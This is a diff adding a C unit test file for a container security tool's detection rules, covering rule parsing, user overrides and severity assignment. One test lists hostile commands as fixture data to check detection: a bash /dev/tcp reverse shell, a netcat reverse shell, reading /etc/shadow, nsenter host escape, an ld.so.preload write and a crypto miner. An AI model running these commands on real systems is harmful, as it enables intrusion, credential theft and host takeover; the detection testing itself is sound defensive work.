@@ -1,0 +1,228 @@
+/* test_enrich_rules.c - the rules-file format and the built-in rules on
+ * hand-built facts: parse errors name what is wrong, conditions combine as
+ * AND, user rules run first and "final" stops evaluation, exec probes and
+ * container starts stay quiet while attacks get their severity.
+ *
+ * The enrich modules are not in libtetra.a, so the sources under test are
+ * compiled into this test directly. */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "../../enrich/facts.c"
+#include "../../enrich/rules.c"
+#include "../../enrich/rules_builtin.c"
+
+static facts container_exec(const char *binary, const char *args) {
+    facts fx;
+    facts_clear(&fx);
+    fx.f[F_KIND] = "process_exec";
+    fx.f[F_BINARY] = binary;
+    fx.f[F_ARGS] = args;
+    fx.f[F_PARENT] = "/usr/bin/runc";
+    fx.f[F_NAMESPACE] = "shop";
+    fx.f[F_WORKLOAD] = "web";
+    fx.f[F_CONTAINER] = "web";
+    fx.f[F_IN_CONTAINER] = "yes";
+    fx.f[F_EXEC_PROBE] = "no";
+    fx.f[F_CONTAINER_INIT] = "no";
+    fx.f[F_PRIVILEGED] = "no";
+    fx.f[F_FLAGS] = "execve clone";
+    return fx;
+}
+
+static int matched(const verdict *v, const char *name) {
+    for (size_t i = 0; i < v->nmatched; i++)
+        if (strcmp(v->matched[i]->name, name) == 0) return 1;
+    return 0;
+}
+
+static void eval_builtin(const facts *fx, verdict *v, ruleset *rs) {
+    char err[256];
+    ck_assert_msg(rules_load_builtin(rs, err, sizeof err) == 0, "%s", err);
+    rules_eval(rs, fx, v);
+}
+
+START_TEST(parse_errors_say_what)
+{
+    ruleset rs = RULESET_INIT;
+    char err[256];
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=high", "t", err, sizeof err), -1);
+    ck_assert_ptr_nonnull(strstr(err, "no condition"));
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=urgent binary=/a", "t", err, sizeof err), -1);
+    ck_assert_ptr_nonnull(strstr(err, "urgent"));
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low color=red", "t", err, sizeof err), -1);
+    ck_assert_ptr_nonnull(strstr(err, "color"));
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=(a", "t", err, sizeof err), -1);
+    ck_assert_ptr_nonnull(strstr(err, "regex"));
+    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low technique=X1 binary=/a", "t", err, sizeof err), -1);
+    ck_assert_int_eq(rules_add_line(&rs, "name=\"x severity=low", "t", err, sizeof err), -1);
+    ck_assert_ptr_nonnull(strstr(err, "quote"));
+    ck_assert_int_eq(rules_add_line(&rs, "  # a comment", "t", err, sizeof err), 0);
+    ck_assert_int_eq(rules_add_line(&rs, "", "t", err, sizeof err), 0);
+    ck_assert_uint_eq(rs.n, 0);
+    rules_free(&rs);
+}
+END_TEST
+
+START_TEST(conditions_and_quotes)
+{
+    ruleset rs = RULESET_INIT;
+    char err[256];
+    const char *line = "name=r1 kind=process_exec binary~=/curl$ args!~\"--version\" severity=high"
+                       " technique=T1105 technique_name=\"Ingress Tool Transfer\" tactic=command-and-control"
+                       " summary=\"${binary} in ${namespace}/${workload}\" next=\"a step\"";
+    ck_assert_msg(rules_add_line(&rs, line, "t:1", err, sizeof err) == 0, "%s", err);
+    facts fx = container_exec("/usr/bin/curl", "http://x");
+    verdict v;
+    rules_eval(&rs, &fx, &v);
+    ck_assert_int_eq(v.severity, SEV_HIGH);
+    ck_assert_str_eq(v.top->tech.name, "Ingress Tool Transfer");
+    buf b = BUF_INIT;
+    ck_assert_int_eq(rules_summary(&v, &fx, &b), 0);
+    ck_assert_str_eq(b.p, "/usr/bin/curl in shop/web");
+    fx.f[F_ARGS] = "--version";
+    rules_eval(&rs, &fx, &v);
+    ck_assert_int_eq(v.severity, SEV_INFO);
+    ck_assert_ptr_null(v.top);
+    buf_reset(&b);
+    ck_assert_int_eq(rules_summary(&v, &fx, &b), 0);
+    ck_assert_ptr_nonnull(strstr(b.p, "Process /usr/bin/curl started"));
+    buf_free(&b);
+    rules_free(&rs);
+}
+END_TEST
+
+START_TEST(user_final_rule_silences_builtin)
+{
+    ruleset rs = RULESET_INIT;
+    char err[256];
+    ck_assert_int_eq(rules_add_line(&rs, "name=allow-ops workload=web binary=/bin/bash severity=info final",
+                                    "user:1", err, sizeof err), 0);
+    facts fx = container_exec("/bin/bash", "");
+    verdict v;
+    eval_builtin(&fx, &v, &rs);
+    ck_assert_int_eq(v.severity, SEV_INFO);
+    ck_assert_uint_eq(v.nmatched, 1);
+    fx.f[F_WORKLOAD] = "other";
+    rules_eval(&rs, &fx, &v);
+    ck_assert_int_eq(v.severity, SEV_MEDIUM);
+    ck_assert(matched(&v, "shell-in-container"));
+    ck_assert_int_eq(rules_add_line(&rs, "disable=shell-in-container", "user:2", err, sizeof err), 0);
+    rules_eval(&rs, &fx, &v);
+    ck_assert_int_eq(v.severity, SEV_INFO);
+    rules_free(&rs);
+}
+END_TEST
+
+START_TEST(exec_probe_and_container_start_quiet)
+{
+    ruleset rs = RULESET_INIT;
+    verdict v;
+    facts fx = container_exec("/bin/sh", "-c \"pg_isready\"");
+    fx.f[F_EXEC_PROBE] = "yes";
+    eval_builtin(&fx, &v, &rs);
+    ck_assert_int_eq(v.severity, SEV_INFO);
+    ck_assert(matched(&v, "exec-probe"));
+    fx = container_exec("/usr/local/bin/server", "--port 8080");
+    fx.f[F_CONTAINER_INIT] = "yes";
+    rules_eval(&rs, &fx, &v);
+    ck_assert_int_le(v.severity, SEV_LOW);
+    fx = container_exec("/bin/bash", "");
+    fx.f[F_FLAGS] = "procFS";
+    rules_eval(&rs, &fx, &v);
+    ck_assert_int_le(v.severity, SEV_LOW);
+    rules_free(&rs);
+}
+END_TEST
+
+START_TEST(attacks_get_their_severity)
+{
+    static const struct {
+        const char *binary, *args, *rule;
+        int sev;
+        const char *tech;
+    } cases[] = {
+        {"/bin/bash", "-c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\"", "reverse-shell-dev-tcp", SEV_CRITICAL, "T1059.004"},
+        {"/usr/bin/nc", "-e /bin/sh 1.2.3.4 4444", "reverse-shell-netcat-exec", SEV_CRITICAL, "T1059.004"},
+        {"/usr/bin/masscan", "-p1-65535 10.0.0.0/8", "network-scanner", SEV_HIGH, "T1046"},
+        {"/bin/cat", "/etc/shadow", "shadow-read", SEV_HIGH, "T1003.008"},
+        {"/usr/bin/xmrig", "--donate-level 1", "crypto-miner-binary", SEV_CRITICAL, "T1496"},
+        {"/usr/bin/nsenter", "-t 1 -m -u -n -i -p sh", "nsenter-host", SEV_CRITICAL, "T1611"},
+        {"/bin/sh", "-c \"echo x >> /etc/ld.so.preload\"", "ld-preload", SEV_CRITICAL, "T1574.006"},
+        {"/usr/bin/apk", "add gcc", "package-manager", SEV_MEDIUM, "T1105"},
+    };
+    ruleset rs = RULESET_INIT;
+    verdict v;
+    facts fx = container_exec("/x", "");
+    eval_builtin(&fx, &v, &rs);
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        fx = container_exec(cases[i].binary, cases[i].args);
+        char any[512];
+        snprintf(any, sizeof any, "%s %s | ", cases[i].binary, cases[i].args);
+        fx.f[F_ANY] = any;
+        rules_eval(&rs, &fx, &v);
+        ck_assert_msg(matched(&v, cases[i].rule), "%s: %s did not match", cases[i].binary, cases[i].rule);
+        ck_assert_int_eq(v.severity, cases[i].sev);
+        int found = 0;
+        for (size_t j = 0; j < v.nmatched; j++)
+            found |= strcmp(v.matched[j]->tech.id, cases[i].tech) == 0;
+        ck_assert_msg(found, "%s: technique %s missing", cases[i].binary, cases[i].tech);
+    }
+    rules_free(&rs);
+}
+END_TEST
+
+START_TEST(builtin_rules_all_complete)
+{
+    ruleset rs = RULESET_INIT;
+    char err[256];
+    ck_assert_msg(rules_load_builtin(&rs, err, sizeof err) == 0, "%s", err);
+    ck_assert_uint_ge(rs.n, 50);
+    for (size_t i = 0; i < rs.n; i++) {
+        const rule *r = &rs.v[i];
+        ck_assert_msg(r->summary != NULL, "%s has no summary", r->name);
+        if (r->severity >= SEV_LOW)
+            ck_assert_msg(r->tech.id[0] && r->tech.name[0] && r->tech.tactic[0],
+                          "%s lacks technique id, name or tactic", r->name);
+    }
+    rules_free(&rs);
+}
+END_TEST
+
+START_TEST(rules_file_reports_line)
+{
+    char path[] = "/tmp/test_enrich_rules_XXXXXX";
+    int fd = mkstemp(path);
+    ck_assert_int_ge(fd, 0);
+    FILE *f = fdopen(fd, "w");
+    fputs("# comment\nname=a binary=/x severity=low\nname=b binary=/y severity=loud\n", f);
+    fclose(f);
+    ruleset rs = RULESET_INIT;
+    char err[512];
+    ck_assert_int_eq(rules_load_file(&rs, path, err, sizeof err), -1);
+    ck_assert_ptr_nonnull(strstr(err, ":3: "));
+    rules_free(&rs);
+    unlink(path);
+}
+END_TEST
+
+int main(void) {
+    Suite *s = suite_create("enrich_rules");
+    TCase *tc = tcase_create("rules");
+    tcase_add_test(tc, parse_errors_say_what);
+    tcase_add_test(tc, conditions_and_quotes);
+    tcase_add_test(tc, user_final_rule_silences_builtin);
+    tcase_add_test(tc, exec_probe_and_container_start_quiet);
+    tcase_add_test(tc, attacks_get_their_severity);
+    tcase_add_test(tc, builtin_rules_all_complete);
+    tcase_add_test(tc, rules_file_reports_line);
+    suite_add_tcase(s, tc);
+    SRunner *sr = srunner_create(s);
+    srunner_run_all(sr, CK_NORMAL);
+    int failed = srunner_ntests_failed(sr);
+    srunner_free(sr);
+    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
+}
